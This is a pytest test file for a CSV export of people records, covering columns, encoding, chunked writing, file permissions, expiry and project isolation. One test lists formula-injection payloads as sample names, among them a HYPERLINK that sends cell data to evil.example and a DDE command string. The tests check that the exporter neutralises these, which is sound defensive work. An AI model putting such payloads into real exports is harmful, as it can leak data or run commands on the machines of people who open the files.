"""People as CSV: what a file holds, whoever opens it, and whatever people call themselves."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from regulars.people import bulk, bulk_jobs, custom, export
from regulars.people.bulk_jobs import Job
from regulars.people.person import Person
from tests.slices.people.bulk_work import EVERYBODY, ask, do, finish, look, step, ticked
from tests.slices.people.crowd import add, add_all
from tests.slices.tracking.site import NOON, Site, open_site


@pytest.fixture
def site(database: psycopg.Connection[Any]) -> Site:
    return open_site(database)


def learn(site: Site, scope: custom.Scope, *keys: str) -> None:
    custom.learn(site.connection, site.project.id, {(scope, key): "text" for key in keys}, NOON)


def read(job: Job) -> list[dict[str, str]]:
    """The file as a program reads it."""
    text = export.file_of(job).read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def exported(site: Site, *people: Person) -> list[dict[str, str]]:
    rows = {row["id"]: row for row in read(do(site, "export", ticked(people)))}
    return [rows[str(person.id)] for person in people]


def test_the_columns_bear_the_names_that_filters_and_the_api_use(site: Site) -> None:
    learn(site, "attributes", "plan", "a.b")
    learn(site, "company", "name")
    job = do(site, "export", ticked([add(site)]))
    first = export.file_of(job).read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert first[:5] == ["id", "kind", "user_id", "email", "name"]
    assert first[-5:] == ["tags", "segments", "company.name", "attributes.a.b", "attributes.plan"]


def test_the_file_is_what_spreadsheets_expect(site: Site) -> None:
    job = do(site, "export", ticked([add(site, name='Åsa "Bo", jr')]))
    data = export.file_of(job).read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,kind,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 2
    assert ',"Åsa ""Bo"", jr",'.encode() in data


def test_facts_are_written_as_they_are(site: Site) -> None:
    learn(site, "attributes", "seats", "trial", "links", "low", "price")
    facts = {"seats": 12, "trial": False, "links": ["a", {"b": 1}], "low": -5, "price": 9.5}
    (row,) = exported(
        site,
        add(
            site,
            name="Ana",
            signed_up_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
            sessions=3,
            attributes=facts,
        ),
    )
    assert (row["name"], row["sessions"], row["email"]) == ("Ana", "3", "")
    assert row["signed_up_at"] == "2026-01-02T03:04:05Z"
    assert (row["attributes.seats"], row["attributes.trial"]) == ("12", "false")
    assert (row["attributes.low"], row["attributes.price"]) == ("-5", "9.5")
    assert json.loads(row["attributes.links"]) == ["a", {"b": 1}]


def test_tags_and_segments_stand_in_a_cell_each(site: Site) -> None:
    active = add(site, tags=["vip", "likes, commas"], last_seen=NOON)
    (row,) = exported(site, active)
    assert next(csv.reader([row["tags"]])) == ["vip", "likes, commas"]
    assert "Active" in next(csv.reader([row["segments"]]))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
        "＝1+1", "=",
    ],
)  # fmt: skip
def test_no_name_is_taken_for_a_formula(site: Site, name: str) -> None:
    (row,) = exported(site, add(site, name=name))
    assert row["name"] == f"'{name}"


@given(st.text())
def test_a_cell_never_begins_as_a_formula_does_and_reads_back(text: str) -> None:
    shown = export.cell(text)
    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert shown in (text, f"'{text}")


def test_tags_that_begin_as_a_formula_does_are_harmless_too(site: Site) -> None:
    learn(site, "attributes", "note")
    (row,) = exported(
        site, add(site, tags=["=1+1", "b"], attributes={"note": "\t=1+1\r\nline two"})
    )
    assert row["tags"] == "'=1+1,b"
    assert row["attributes.note"] == "'\t=1+1\r\nline two"


def test_an_export_of_many_is_written_step_by_step_in_one_file(site: Site) -> None:
    people = add_all(site, [{"name": f"P{number}"} for number in range(2300)])
    job = ask(site, "export", EVERYBODY)
    sizes = [step(site, job).file_bytes for _ in range(3)]
    assert 0 < sizes[0] < sizes[1] < sizes[2]
    done = finish(site, job)
    assert (done.state, done.changed, done.file_bytes) == ("done", 2300, sizes[2])
    assert [row["id"] for row in read(done)] == sorted(str(person.id) for person in people)


def test_what_a_worker_that_died_wrote_and_did_not_commit_is_written_over(site: Site) -> None:
    add_all(site, [{"name": f"P{number}"} for number in range(1500)])
    job = ask(site, "export", EVERYBODY)
    written = step(site, job).file_bytes
    with export.file_of(job).open("ab") as handle:
        handle.write(b"half a row,of a worker,that was killed" * 1000)
    assert export.file_of(job).stat().st_size > written
    done = finish(site, job)
    assert len(read(done)) == 1500
    assert export.file_of(job).stat().st_size == done.file_bytes


def test_keys_that_appear_while_it_is_written_do_not_shift_its_columns(site: Site) -> None:
    learn(site, "attributes", "plan")
    add_all(site, [{"attributes": {"plan": "pro"}} for _ in range(1200)])
    job = ask(site, "export", EVERYBODY)
    step(site, job)
    learn(site, "attributes", "another")
    finish(site, job)
    assert {row["attributes.plan"] for row in read(job)} == {"pro"}
    assert "attributes.another" not in read(job)[0]


def test_nobody_else_on_the_machine_can_read_the_file(site: Site) -> None:
    job = do(site, "export", ticked([add(site)]))
    file = export.file_of(job)
    assert file.stat().st_mode & 0o077 == 0
    assert file.parent.stat().st_mode & 0o077 == 0


def test_a_file_is_gone_a_week_after_it_was_made(site: Site) -> None:
    long_ago = NOON - timedelta(days=2000)  # other tests' jobs are younger
    job = do(site, "export", ticked([add(site)]), long_ago)
    bulk.tidy(site.connection, long_ago + bulk_jobs.KEPT - timedelta(seconds=1))
    assert export.file_of(job).exists()
    bulk.tidy(site.connection, long_ago + bulk_jobs.KEPT + timedelta(seconds=1))
    assert not export.file_of(job).exists()


def test_a_stopped_export_leaves_no_file(site: Site) -> None:
    add_all(site, [{} for _ in range(1200)])
    job = ask(site, "export", EVERYBODY)
    step(site, job)
    with site.connection.transaction():
        bulk.cancel(site.connection, site.project.id, job.id, NOON)
    assert not export.file_of(job).exists()
    assert look(site, job).state == "cancelled"


def test_people_of_other_projects_are_in_nobody_elses_file(site: Site) -> None:
    other = open_site(site.connection)
    theirs = add(other, name="Theirs")
    mine = add(site, name="Mine")
    assert [row["name"] for row in read(do(site, "export", ticked([mine, theirs])))] == ["Mine"]
